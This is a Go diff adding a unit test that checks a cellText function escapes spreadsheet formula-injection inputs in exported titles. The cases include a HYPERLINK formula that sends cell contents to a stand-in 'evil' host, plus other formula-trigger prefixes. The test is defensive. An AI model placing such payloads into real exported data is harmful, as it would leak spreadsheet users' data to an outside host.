@@ -157,3 +157,17 @@ func TestExportErrors(t *testing.T) {
 		}
 	}
 }
+
+// A title cannot become a formula in a spreadsheet.
+func TestCellText(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
+		"+1":                                 "'+1", "-1": "'-1", "@SUM(1)": "'@SUM(1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
+		"": "", "a=b": "a=b", "http://h/": "http://h/", "–": "–",
+	} {
+		if got := cellText(in); got != want {
+			t.Errorf("cellText(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
